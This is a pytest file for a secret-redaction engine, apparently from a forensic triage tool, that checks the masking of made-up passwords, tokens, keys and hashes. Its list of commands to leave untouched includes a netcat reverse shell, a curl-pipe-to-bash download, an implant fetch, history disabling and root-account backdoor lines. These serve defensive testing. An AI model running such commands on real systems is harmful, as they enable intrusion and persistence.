"""Secrets stay home: private-key blocks in streams, secret-looking environment values, typed
secrets masked in place (records and raw copies), secret files withheld by path and by content."""

from __future__ import annotations

import gzip
import io
import random
import re
import time
from pathlib import Path

import pytest

from agent.engine.plan import SPECS_DIR, Secrets, load_secrets
from agent.engine.redact import (
    MASK,
    REDACTED,
    PemScrubber,
    Redactor,
    RuleSet,
    SecretScrubber,
    Unsupported,
    content_rule,
    convert_re2,
    starts_with_private_key,
)

KEY = (b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
       b"QyNTUxOQAAACBTOPSECRETBODY\n-----END OPENSSH PRIVATE KEY-----\n")

# Secrets made up for the tests: random-looking, so that no allowlist (gitleaks drops
# "abcdefghijklmnopqrstuvwxyz" and the like) lets them through.
GHP = "ghp_" + "R8kz2Qm7Vw4Xp1Lb9Nc3Ty6Hd0Fj5Gs8Ae2U"
PAT = "github_pat_11AZQ3VJY0Rk7mW2xP9bLc_" + "Qd8Tz4Nf6Hs1Kj3Vb7Xm2Lp5Rc9Wg0Ye4Ua8Io6Pt1Sn3Mq7Zb2Dx5Fv9Ce4Gh"
XOXB = "xoxb-2841937561024-5829174630284-Wq7Zr2Kx9Pm4Tb6Nc1Lv8Hd"
AWS_SECRET = "Zx9Qw8Er7Ty6Ui5Op4As3Df2Gh1Jk0LzXcVbNm12"
WG_KEY = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk="
SHA512 = "$6$Xy7sAlt9$Qw8Er7Ty6Ui5Op4As3Df2Gh1Jk0LzXcVbNm12QwErT8yU7iO6pA5sD4fG3hJ2kL1zX0cV9bN8mQ7wE6rT5yU4iO3pA"

# (typed, secret that must go, what must remain, rule)
TYPED = [
    ("mysql -uroot -pS3cretPW1 appdb", "S3cretPW1", "mysql -uroot -p**** appdb", "mysql-password-arg"),
    ("mysql -u root -p'My Pass 1' -h db", "My Pass 1", "mysql -u root -p'****' -h db", "mysql-password-arg"),
    ("mysqldump --password=hunter2x db", "hunter2x", "mysqldump --password=**** db", "password-option"),
    ("pg_dump --password Pg5ecret db", "Pg5ecret", "pg_dump --password **** db", "password-option"),
    (f"export AWS_SECRET_ACCESS_KEY={AWS_SECRET}", AWS_SECRET, "export AWS_SECRET_ACCESS_KEY=****",
     "secret-assignment"),
    ("PGPASSWORD=s3cr3tPg psql -h db", "s3cr3tPg", "PGPASSWORD=**** psql -h db", "secret-assignment"),
    ("curl -u deploy:Curl-Pa55word https://ci.example/api", "Curl-Pa55word", "curl -u deploy:**** https://ci",
     "curl-user-password"),
    (f"echo {GHP} | gh auth login --with-token", GHP[4:], "echo ghp_****", "github-pat"),
    (f"git clone https://{PAT}@github.com/o/r.git", PAT[11:], "git clone https://", None),
    (f"curl -d token={XOXB} https://slack.com/api/chat.postMessage", XOXB[5:], "curl -d token=", None),
    (f"curl -H 'Authorization: Bearer {XOXB}' https://slack.com/api", XOXB[5:],
     "curl -H 'Authorization: Bearer ****'", "authorization-header"),
    ("psql postgresql://app:Db-pass-42@db.internal/app", "Db-pass-42", "psql postgresql://app:****@db.internal",
     "url-credentials"),
    ("sshpass -p 'Ssh pass 9' ssh admin@10.0.0.5", "Ssh pass 9", "sshpass -p '****' ssh", "sshpass-password"),
    ("redis-cli -h cache -a Red1sPw ping", "Red1sPw", "redis-cli -h cache -a **** ping", "redis-cli-password"),
    ("docker login -u me -p D0ckerPw registry.example", "D0ckerPw", "docker login -u me -p ****",
     "registry-login-password"),
    ("smbclient //srv/share -U admin%Smb-Pw-7", "Smb-Pw-7", "-U admin%****", "smb-user-password"),
    ("echo 'admin:Chpa55w0rd' | chpasswd", "Chpa55w0rd", "| chpasswd", "echo-to-passwd"),
    ("echo 'Sud0Pw!' | sudo -S apt-get update", "Sud0Pw!", "| sudo -S apt-get update", "echo-to-passwd"),
    ("htpasswd -bc /etc/nginx/.htpasswd admin Htpa55wd", "Htpa55wd", "htpasswd -bc /etc/nginx/.htpasswd admin ****",
     "htpasswd-batch"),
    ("openssl enc -aes256 -pass pass:0penSslPw -in x", "0penSslPw", "-pass pass:****", "openssl-pass-arg"),
    ("keytool -list -keystore ks.jks -storepass Ch4ngeIt", "Ch4ngeIt", "-storepass ****", "password-option"),
    ("aws configure set aws_secret_access_key " + AWS_SECRET, AWS_SECRET, "aws_secret_access_key ****",
     "cli-config-secret"),
    ("mysqladmin -u root -pOldPw1x password NewPw22x", "NewPw22x", "-p**** password ****", "mysql-password-arg"),
    (f"usermod -p '{SHA512}' toor", SHA512[3:], "usermod -p '$6$****' toor", "crypt-hash"),
    ("echo 'toor:abJnggxhB/yWI:0:0::/root:/bin/bash' >> /etc/passwd", "abJnggxhB/yWI", "toor:****:0:0:",
     "des-crypt-hash"),
    (f"PrivateKey = {WG_KEY}", WG_KEY, "PrivateKey = ****", "wireguard-private-key"),
    ('echo "machine api.example.com login me password N3trcPw" >> ~/.netrc', "N3trcPw", "password ****",
     "netrc-password"),
]

BENIGN = [
    "ls -la", 'git commit -m "fix"', "ssh -p 22 host", "tar -czf x.tgz dir", "curl https://example.com/a?b=c",
    "python -c 'print(1)'", "docker run -p 8080:80 nginx", "mysql -u root -p", "mysql -h db -P 3306 -u app -p appdb",
    "mysqldump -p --all-databases > all.sql", "cd /var/www && ls", "vim /etc/ssh/sshd_config",
    "sudo systemctl restart nginx", "ps aux | grep ssh", "kubectl get secret mysecret -o yaml",
    "kubectl get pods -n kube-system", "ssh-keygen -t ed25519 -C me@host",
    "openssl req -new -key server.key -out x.csr",
    "git config --global user.email a@b.c", "apt-get install -y postgresql", "scp -P 2222 f.txt host:/tmp",
    "rsync -avz -e 'ssh -p 2222' src/ host:dst/", "find / -perm -4000 -type f", "chmod 600 ~/.ssh/id_rsa",
    "cat /etc/passwd", "echo $HOME", "sudo -u postgres psql", "ssh-add ~/.ssh/id_ed25519", "aws s3 ls s3://bucket",
    "aws configure", "gcloud auth login", "az login", "export EDITOR=vim", "export HISTFILE=/dev/null",
    "export PATH=$PATH:/usr/local/bin", "export TOKENIZERS_PARALLELISM=false", "export KUBECONFIG=~/.kube/config",
    "passwd alice", "useradd -m bob", "git log --oneline", "pip install requests", "make -j4",
    "journalctl -u ssh --since today", "docker ps -a", "netstat -tulpn", "crontab -l",
    "wget http://203.0.113.9/implant", "nc -e /bin/sh 192.0.2.1 4444", "curl -s http://198.51.100.7/x.sh | bash",
    "useradd -o -u 0 toor", "git push origin main", "kubectl create secret generic x --from-file=./key",
    "gh auth login", "ansible-playbook --private-key ~/.ssh/id_rsa site.yml", "grep -r password /etc",
    "openssl rand -hex 16", "docker exec -it web bash", "terraform apply -auto-approve", "curl -u admin https://x",
    "curl -H 'Accept: application/json' https://x", "docker run -e MYSQL_ROOT_PASSWORD_FILE=/run/secrets/db mysql",
    "export SSH_AUTH_SOCK=/tmp/ssh-x/agent.1", "git clone git@github.com:org/repo.git",
    "ssh -i ~/.ssh/deploy_key deploy@10.0.0.5", "for i in 1 2; do\necho $i\ndone", "PasswordAuthentication yes",
    "password required pam_unix.so", "2024-01-01T00:00:00.000000Z", "/root/.bash_history",
    "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU",
    "Failed password for invalid user admin from 203.0.113.5 port 22",
    "Accepted publickey for alice from 198.51.100.7 port 52113 ssh2: ED25519 SHA256:abc",
    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.5",
]


@pytest.fixture(scope="module")
def redactor() -> Redactor:
    return Redactor(load_secrets())


# ---- the first version's behaviour ----------------------------------------------------------------------

def test_scrubber_keeps_length_and_removes_key_bodies_across_any_chunking():
    rng = random.Random(3)
    for _ in range(300):
        rsa_key = KEY.replace(b"OPENSSH ", b"RSA ")
        doc = b"x" * rng.randint(0, 300) + KEY + b"y\n" * rng.randint(0, 50) + rsa_key + b"z" * rng.randint(0, 3000)
        src = io.BytesIO(doc)
        scrubber = PemScrubber()
        read = scrubber.reader(lambda n, src=src: src.read(rng.randint(1, n)))
        out = b""
        while chunk := read(rng.randint(1, 200)):
            out += chunk
        assert len(out) == len(doc)
        assert b"TOPSECRETBODY" not in out and b"b3BlbnNzaC1rZXkt" not in out
        assert out.count(b"PRIVATE KEY-----") == 4 and scrubber.blocks == 2


def test_private_key_file_is_recognised():
    assert starts_with_private_key(b"\n" + KEY)
    assert starts_with_private_key(b"-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIIF")
    assert not starts_with_private_key(b"ssh-ed25519 AAAA comment\n")


def test_environment_and_fields_redacted_unless_opted_in():
    record = {"pid": 1, "environ": {"AWS_SECRET_ACCESS_KEY": "abc", "HOME": "/root", "X": "AKIAABCDEFGHIJKLMNOP",
                                     "DB": "postgres://u:pw@db/x", "MYSQL_PWD": "hunter2", "PATH": "/usr/bin"},
              "password_hash": "$6$x$y", "note": "see " + KEY.decode()}
    clean = Redactor(load_secrets()).record(record)
    env = clean["environ"]
    assert env["AWS_SECRET_ACCESS_KEY"] == REDACTED and env["X"] == REDACTED and env["DB"] == REDACTED
    assert env["MYSQL_PWD"] == REDACTED
    assert env["HOME"] == "/root" and env["PATH"] == "/usr/bin"
    assert "password_hash" not in clean and "TOPSECRETBODY" not in clean["note"]
    assert Redactor(load_secrets(), include_secrets=True).record(record) == record


# ---- the imported rule set -------------------------------------------------------------------------------

def test_gitleaks_rules_imported_as_data_with_their_origin():
    path = SPECS_DIR / "secrets" / "gitleaks.toml"
    header = path.read_text().split("# ---- upstream config", 1)[0]
    assert "https://github.com/gitleaks/gitleaks" in header and "v8.30.1" in header
    assert re.search(r"commit [0-9a-f]{40}", header) and "MIT License" in header
    secrets = load_secrets()
    redactor = Redactor(secrets)
    imported = [r for r in redactor.rules.rules if r.source == "gitleaks"]
    total = sum(1 for r in secrets.rules if r["source"] == "gitleaks")
    m = re.search(r"Imported: (\d+) of (\d+) rules", header)
    assert m and (int(m.group(1)), int(m.group(2))) == (len(imported), total)
    assert redactor.dropped_rules == [("pkcs12-file", "no regex (a path-only rule)")]
    ours = [r.id for r in redactor.rules.rules if r.source == "triagent"]
    assert ours[0] == "wireguard-private-key" and "mysql-password-arg" in ours  # ours come first
    assert len({r.id for r in redactor.rules.rules}) == len(redactor.rules.rules)


def test_every_rule_of_the_book_compiles():
    """Rules compile on first use (Rule.regex), so that a run pays only for those its keywords meet: the whole
    book must still compile, or a rule would silently find nothing the first time it is needed."""
    redactor = Redactor(load_secrets())
    for rule in redactor.rules.rules:
        assert rule.regex.pattern == rule.pattern, rule.id
    assert redactor.dropped_rules == [("pkcs12-file", "no regex (a path-only rule)")]


def test_an_imported_rule_python_cannot_compile_is_dropped_when_first_met():
    base = load_secrets()
    bad = {"id": "newer-upstream-rule", "regex": "token=(?P<x>a)(?P<x>b)", "keywords": ["token"],
           "source": "upstream", "syntax": "python"}
    secrets = Secrets(base.env_name_patterns, base.env_value_patterns, base.withheld_paths,
                      rules=[bad] + base.rules, allowlists=base.allowlists)
    redactor = Redactor(secrets)
    masked, _ = redactor.mask("curl -H 'x: y' https://h/?token=ghp_" + "A1b2C3d4" * 5)
    assert "ghp_" not in masked or MASK in masked  # the other rules still run; no exception for the bad one
    assert [why for rid, why in redactor.dropped_rules if rid == "newer-upstream-rule"] == [
        "does not compile in Python re: redefinition of group name 'x' as group 2; was group 1 at position 18"]


def test_re2_conversion():
    assert convert_re2(r"\b(p8e-(?i)[a-z0-9]{4})\z") == r"\b(p8e-(?i:[a-z0-9]{4}))\Z"
    rx = re.compile(convert_re2(r"\b(p8e-(?i)[a-z0-9]{4})\z"))
    assert rx.search("p8e-AbC1") and not rx.search("P8E-abc1")
    both = re.compile(convert_re2(r"^(?:a(?i)b|c)$"))  # RE2: the flag runs to the group's end, past |
    assert both.match("aB") and both.match("C") and not both.match("AB")
    assert convert_re2(r"pat[[:alnum:]]{2}") == "pat[a-zA-Z0-9]{2}"
    assert re.compile(convert_re2(r"[\w=~@.+/-]+")).fullmatch("a~b")
    for bad in (r"\pL+", r"[\p{Greek}]", r"(a", r"a)"):
        with pytest.raises(Unsupported):
            convert_re2(bad)


def test_a_rule_runs_only_where_its_keyword_occurs():
    rules = RuleSet(Secrets([], [], [], rules=[
        {"id": "t", "regex": r"tok_([0-9]{6})", "keywords": ["TOK_"], "syntax": "python"},
        {"id": "u", "regex": r"\b([0-9]{6})\b", "keywords": ["pin"], "syntax": "python"}]))
    assert [r for *_, r in rules.spans("x tok_123456 y")] == ["t"]  # keywords match whatever the case
    assert rules.spans("x 123456 y") == []  # the regex would match: its keyword is absent
    assert [r for *_, r in rules.spans("pin 123456")] == ["u"]
    assert [r for *_, r in rules.spans("x 123456\npin 654321")] == ["u"]  # only the keyword's line
    assert rules.spans("x 123456\npin 654321")[0][:2] == (13, 19)


# ---- typed secrets: records --------------------------------------------------------------------------------

@pytest.mark.parametrize("typed,secret,kept,rule", TYPED, ids=[t[3] or t[0][:20] for t in TYPED])
def test_typed_secret_masked_in_place(redactor, typed, secret, kept, rule):
    masked, rules = redactor.mask(typed)
    assert secret not in masked and MASK in masked
    assert kept in masked, masked
    if rule:
        assert rule in rules


def test_benign_command_lines_are_not_touched(redactor):
    touched = [(c, redactor.mask(c)) for c in BENIGN if redactor.mask(c)[1]]
    assert touched == []


def test_history_record_keeps_the_command_and_says_what_was_masked(redactor):
    rec = {"line": 3, "command": "mysql -pS3cretPW1 -e 'select 1'", "timestamp_utc": None, "user": "root",
           "shell": "bash", "path": "/root/.bash_history"}
    clean = redactor.record(rec, "histories")
    assert clean["command"] == "mysql -p**** -e 'select 1'"
    assert clean["redacted"] == [{"field": "command", "rule": "mysql-password-arg"}]
    assert {k: v for k, v in clean.items() if k not in ("command", "redacted")} == \
        {k: v for k, v in rec.items() if k != "command"}
    assert "redacted" not in redactor.record({"line": 1, "command": "ls -la /tmp"}, "histories")


def test_process_record_cmdline_list_environment_and_nested_values(redactor):
    rec = {"pid": 42, "cmdline": ["mysql", "-uroot", "-pS3cretPW1", "db"],
           "environ": {"HOME": "/root", "OPTS": "--password=Inn0centName", "JOB": f"curl -d token={XOXB} x",
                       "DB_PASSWORD": "x"},
           "children": [{"cmdline": ["curl", "-u", "deploy:Curl-Pa55word", "https://x"]}],
           "meta": {"note": f"export AWS_SECRET_ACCESS_KEY={AWS_SECRET}"}}
    clean = redactor.record(rec, "processes")
    assert clean["cmdline"] == ["mysql", "-uroot", "-p****", "db"]
    assert clean["environ"]["HOME"] == "/root" and clean["environ"]["OPTS"] == "--password=****"
    assert XOXB[5:] not in clean["environ"]["JOB"] and clean["environ"]["DB_PASSWORD"] == REDACTED
    assert clean["children"][0]["cmdline"] == ["curl", "-u", "deploy:****", "https://x"]
    assert AWS_SECRET not in clean["meta"]["note"]
    fields = {(n["field"], n["rule"]) for n in clean["redacted"]}
    assert {("cmdline[2]", "mysql-password-arg"), ("environ.OPTS", "password-option"),
            ("environ.DB_PASSWORD", "env-secret-name"), ("children[0].cmdline[2]", "curl-user-password"),
            ("meta.note", "secret-assignment")} <= fields
    assert redactor.record(rec, "processes") == clean  # deterministic

    class Text(str):  # third-party records (dissect's flow.record) carry str subclasses
        pass
    assert redactor.record({"command": Text("mysql -pS3cretPW1")})["command"] == "mysql -p****"
    assert Redactor(load_secrets(), include_secrets=True).record(rec) == rec


def test_record_masking_is_cheap(redactor):
    rng = random.Random(5)
    commands = [c for c in BENIGN if "\n" not in c] + [t[0] for t in TYPED[:5]]
    records = [{"line": i, "command": rng.choice(commands) + f" {i % 977}",
                "timestamp_utc": f"2024-01-01T00:00:{i:09d}Z", "user": rng.choice(("root", "alice")),
                "shell": "bash", "path": "/root/.bash_history", "kind": "bash"}
               for i in range(20000)]
    started = time.perf_counter()
    clean = [redactor.record(rec, "histories") for rec in records]
    rate = len(records) / (time.perf_counter() - started)
    print(f"record masking: {rate:,.0f} history records/s")
    assert rate > 10000
    typed = [t[0] for t in TYPED[:5]]
    assert sum("redacted" in c for c in clean) == sum(r["command"].rsplit(" ", 1)[0] in typed for r in records) > 0
    assert not [c for c in clean if any(t[1] in c["command"] for t in TYPED[:5])]


# ---- whole files: by path and by content ---------------------------------------------------------------------

WITHHELD = [
    "/etc/shadow", "/etc/shadow-", "/etc/shadow~", "/etc/shadow.bak", "/etc/shadow.old", "/etc/shadow.dpkg-old",
    "/etc/shadow.dpkg-dist", "/etc/shadow.rpmsave", "/etc/shadow.rpmnew", "/etc/shadow.orig", "/etc/shadow.save",
    "/etc/.shadow.swp", "/etc/gshadow", "/etc/gshadow-", "/etc/gshadow~", "/etc/gshadow.bak", "/etc/.gshadow.swp",
    "/etc/security/opasswd", "/etc/security/opasswd.bak", "/etc/security/opasswd-", "/var/backups/shadow.bak",
    "/etc/mysql/debian.cnf", "/root/.pgpass", "/home/alice/.netrc", "/home/alice/.git-credentials",
    "/root/.my.cnf", "/root/.aws/credentials", "/root/.aws/sso/cache/abc.json", "/root/.aws/cli/cache/x.json",
    "/home/a/.config/gcloud/credentials.db", "/home/a/.config/gcloud/access_tokens.db",
    "/home/a/.config/gcloud/application_default_credentials.json",
    "/home/a/.config/gcloud/legacy_credentials/me/adc.json",
    "/home/a/.azure/accessTokens.json", "/home/a/.azure/msal_token_cache.json", "/home/a/.azure/msal_token_cache.bin",
    "/home/a/.azure/service_principal_entries.json", "/root/.kube/config", "/root/.docker/config.json",
    "/etc/wireguard/wg0.conf", "/etc/wireguard/privatekey", "/etc/ssh/ssh_host_ed25519_key",
    "/root/.ssh/id_rsa", "/home/bob/.ssh/id_ed25519_sk", "/home/bob/.ssh/id_work", "/etc/ssl/private/site.key",
]
NOT_WITHHELD = [
    "/etc/passwd", "/etc/group", "/root/.aws/config", "/root/.ssh/id_rsa.pub", "/home/bob/.ssh/id_ed25519-cert.pub",
    "/etc/ssh/ssh_host_ed25519_key.pub", "/root/.ssh/authorized_keys", "/root/.bash_history", "/etc/mysql/my.cnf",
    "/etc/security/limits.conf", "/etc/wireguard/publickey",
]


def test_withheld_by_path(redactor):
    assert [p for p in WITHHELD if not redactor.withheld(p)] == []
    assert [p for p in NOT_WITHHELD if redactor.withheld(p)] == []
    assert not Redactor(load_secrets(), include_secrets=True).withheld("/etc/shadow.bak")


def _der_keys() -> dict[str, bytes]:
    from cryptography.hazmat.primitives import serialization as ser
    from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
    from cryptography.hazmat.primitives.serialization import pkcs12

    rsa_key, ec_key = rsa.generate_private_key(65537, 2048), ec.generate_private_key(ec.SECP256R1())
    der, none = ser.Encoding.DER, ser.NoEncryption()
    return {
        "der-pkcs8-private-key": rsa_key.private_bytes(der, ser.PrivateFormat.PKCS8, none),
        "der-pkcs1-private-key": rsa_key.private_bytes(der, ser.PrivateFormat.TraditionalOpenSSL, none),
        "der-ec-private-key": ec_key.private_bytes(der, ser.PrivateFormat.TraditionalOpenSSL, none),
        "der-pkcs8-ed25519": ed25519.Ed25519PrivateKey.generate().private_bytes(der, ser.PrivateFormat.PKCS8, none),
        "der-encrypted-private-key": rsa_key.private_bytes(der, ser.PrivateFormat.PKCS8,
                                                           ser.BestAvailableEncryption(b"pw")),
        "pkcs12": pkcs12.serialize_key_and_certificates(b"x", rsa_key, None, None, none),
        "_public": rsa_key.public_key().public_bytes(der, ser.PublicFormat.SubjectPublicKeyInfo),
    }


def test_withheld_by_content(redactor):
    keys = _der_keys()
    for rule, data in keys.items():
        got = redactor.withheld_content(data[:4096])
        if rule == "_public":
            assert got is None
        else:
            assert got == ("der-pkcs8-private-key" if rule == "der-pkcs8-ed25519" else rule), rule
            assert starts_with_private_key(data)  # the pipeline's first door sees them too
    shadow = "".join(f"{u}:{h}:19700:0:99999:7:::\n" for u, h in (("root", SHA512), ("svc", "*"), ("bob", "!")))
    cases = {
        "private-key-block": KEY, "putty-private-key": b"PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\n",
        "openssh-private-key": b"openssh-key-v1\0\0\0\0\x04none",
        "openvpn-static-key": b"#\n# 2048 bit OpenVPN static key\n#\n-----BEGIN OpenVPN Static key V1-----\n0a1b\n",
        "shadow-file": shadow.encode(),
        "java-keystore": b"\xfe\xed\xfe\xed\0\0\0\x02",
    }
    for rule, data in cases.items():
        assert redactor.withheld_content(data) == rule, rule
    assert content_rule(b"sudo:$6$" + SHA512[3:].encode() + b"::alice\nadm:!::\n") == "shadow-file"  # gshadow
    assert content_rule(b"alice:1000:2:" + SHA512.encode() + b"," + SHA512.encode() + b"\n") == "shadow-file"
    assert content_rule(b"admin:$apr1$Qx8sa1t$Wd2Kf8Hn3Jm5Lp7Rt9Vx1/\n") == "shadow-file"  # htpasswd
    for benign in (b"root:x:0:0:root:/root:/bin/bash\ntoor:" + SHA512.encode() + b":0:0::/:/bin/sh\n",  # passwd
                   b"ls -la\nroot:" + SHA512.encode() + b":19700:0:99999:7:::\ncd /tmp\nvim x\nexit\n",  # a history
                   b"# comment\nkey = value\n", b"\x07\0\0\0" + b"\0" * 380, gzip.compress(b"x" * 100),
                   b"-----BEGIN CERTIFICATE-----\nMIIB\n", b"ssh-ed25519 AAAAC3 me\n", b""):
        assert content_rule(benign) is None, benign[:40]
    assert Redactor(load_secrets(), include_secrets=True).withheld_content(KEY) is None


# ---- raw copies: the streaming scrubber ---------------------------------------------------------------------

SAMPLE = (
    b"#1700000000\nls -la /tmp\nmysql -uroot -pS3cretPW1 appdb\n"
    b"export AWS_SECRET_ACCESS_KEY=" + AWS_SECRET.encode() + b"\n"
    b"curl -u deploy:Curl-Pa55word https://ci.example/api\n"
    b"echo " + GHP.encode() + b" > /tmp/t\n"
    b"root:" + SHA512.encode() + b":19700:0:99999:7:::\n"
    b"[Interface]\nPrivateKey = " + WG_KEY.encode() + b"\nListenPort = 51820\n"
    b"<tls-auth>\n-----BEGIN OpenVPN Static key V1-----\n6acef03f62675b4b1bbd03e53b187727\n"
    b"-----END OpenVPN Static key V1-----\n</tls-auth>\n"
    b"-----BEGIN OpenVPN Static key V1-----\n1f2e3d4c5b6a79880f1e2d3c4b5a6978\n-----END OpenVPN Static key V1-----\n"
) + KEY + b"git status\n"
SAMPLE_SECRETS = [b"S3cretPW1", AWS_SECRET.encode(), b"Curl-Pa55word", GHP[4:].encode(), SHA512[3:].encode(),
                  WG_KEY.encode(), b"6acef03f62675b4b", b"1f2e3d4c5b6a7988", b"TOPSECRETBODY", b"b3BlbnNzaC1rZXkt"]


def _scrub(parts: list[bytes], scrubber: SecretScrubber | None = None) -> tuple[bytes, SecretScrubber]:
    scrubber = scrubber or SecretScrubber()
    out = b"".join(scrubber.feed(p, final=False) for p in parts) + scrubber.feed(b"", final=True)
    return out, scrubber


def test_scrubber_masks_typed_secrets_hashes_and_keys_keeping_length():
    out, scrubber = _scrub([SAMPLE])
    assert len(out) == len(SAMPLE)
    assert [s for s in SAMPLE_SECRETS if s in out] == []
    for kept in (b"mysql -uroot -p********* appdb", b"curl -u deploy:************* https", b"root:$6$*",
                 b"PrivateKey = ********", b"-----BEGIN OpenVPN Static key V1-----\n*****", b"<tls-auth>\n***",
                 b"echo ghp_****", b"-----BEGIN OPENSSH PRIVATE KEY-----\nXXXX", b"ls -la /tmp\n", b"git status\n"):
        assert kept in out, kept
    assert scrubber.masked["mysql-password-arg"] == 1 and scrubber.masked["crypt-hash"] == 1
    assert scrubber.masked["wireguard-private-key"] == 1 and scrubber.masked["openvpn-static-key"] == 1
    assert scrubber.masked["openvpn-inline-key"] == 1 and scrubber.masked["private-key-block"] == 1
    assert scrubber.blocks == 3


def test_scrubber_gives_the_same_bytes_at_every_split_position():
    whole, _ = _scrub([SAMPLE])
    assert [s for s in SAMPLE_SECRETS if s in whole] == []
    for cut in range(len(SAMPLE) + 1):
        out, _ = _scrub([SAMPLE[:cut], SAMPLE[cut:]])
        assert out == whole, cut
    rng = random.Random(11)
    for _ in range(200):
        cuts = sorted(rng.sample(range(len(SAMPLE)), 4))
        parts = [SAMPLE[a:b] for a, b in zip([0, *cuts], [*cuts, len(SAMPLE)], strict=True)]
        assert _scrub(parts)[0] == whole


def test_scrubber_reader_and_a_line_longer_than_the_hold():
    line = b"x" * 5000 + b" mysql -uroot -pS3cretPW1 " + b"y" * 5000 + b"\n"
    doc = line * 3 + SAMPLE
    scrubber = SecretScrubber(hold=1024)
    src = io.BytesIO(doc)
    read = scrubber.reader(src.read)
    out = b""
    while chunk := read(700):
        out += chunk
    assert len(out) == len(doc) and b"S3cretPW1" not in out and AWS_SECRET.encode() not in out


def test_prime_starts_a_window_inside_a_key_block_or_a_line():
    doc = b"log line\n" + KEY + b"ls\n" + b"mysql -uroot -pS3cretPW1 db\n" + b"after\n"
    for start in range(1, len(doc)):
        before, window = doc[:start], doc[start:]
        out, _ = _scrub([window], _primed(before))
        assert len(out) == len(window)
        for secret in (b"TOPSECRETBODY", b"b3BlbnNzaC1rZXkt", b"S3cretPW1"):
            if secret in window:
                assert secret not in out, (start, out)
        if start <= doc.index(b"ls\n"):  # a window that cuts a marker still finds the block's end
            assert out.endswith(b"ls\nmysql -uroot -p********* db\nafter\n"), (start, out)
    inside = doc.index(b"b3Blbn") - 1  # without prime, a window that starts inside the key leaks its body
    assert b"b3BlbnNzaC1rZXkt" in _scrub([doc[inside:]])[0]
    assert b"b3BlbnNzaC1rZXkt" not in _scrub([doc[inside:]], _primed(doc[:inside]))[0]
    mid = doc.index(b"S3cret") + 2  # the window cuts the password: prime gives the line back
    assert _scrub([doc[mid:]], _primed(doc[:mid]))[0].startswith(b"*******")


def _primed(before: bytes) -> SecretScrubber:
    scrubber = SecretScrubber()
    scrubber.prime(before)
    return scrubber


def test_scrubber_leaves_compressed_files_and_benign_text_alone():
    packed = gzip.compress(SAMPLE)
    assert _scrub([packed])[0] == packed
    text = ("\n".join(c for c in BENIGN) + "\nmysql -pS3cretPW1\n").encode()
    assert _scrub([text])[0] == text.replace(b"S3cretPW1", b"*********")  # only the secret changed


def test_scrubber_throughput_on_a_log():
    line = (b"Jan 12 10:00:01 host sshd[1234]: Failed password for invalid user admin from 203.0.113.5 port 22 ssh2\n"
            b"Jan 12 10:00:02 host systemd[1]: Started Daily apt upgrade and clean activities.\n"
            b"Jan 12 10:00:03 host CRON[99]: pam_unix(cron:session): session opened for user root by (uid=0)\n")
    data = (line * 2000 + b"Jan 12 10:00:04 host sudo: alice : COMMAND=/usr/bin/mysql -pS3cretPW1\n") * 10
    started = time.perf_counter()
    out, scrubber = _scrub([data[i:i + (1 << 20)] for i in range(0, len(data), 1 << 20)])
    rate = len(data) / (time.perf_counter() - started) / 1e6
    print(f"raw copy scrubbing: {rate:.1f} MB/s")
    assert out == data.replace(b"S3cretPW1", b"*********") and scrubber.masked == {"mysql-password-arg": 10}
    assert rate > 1


def test_rule_files_are_data():
    spec = (SPECS_DIR / "secrets.toml").read_text()
    assert '[[import]]' in spec and 'path = "secrets/gitleaks.toml"' in spec
    assert Path(SPECS_DIR / "secrets" / "gitleaks.toml").is_file()
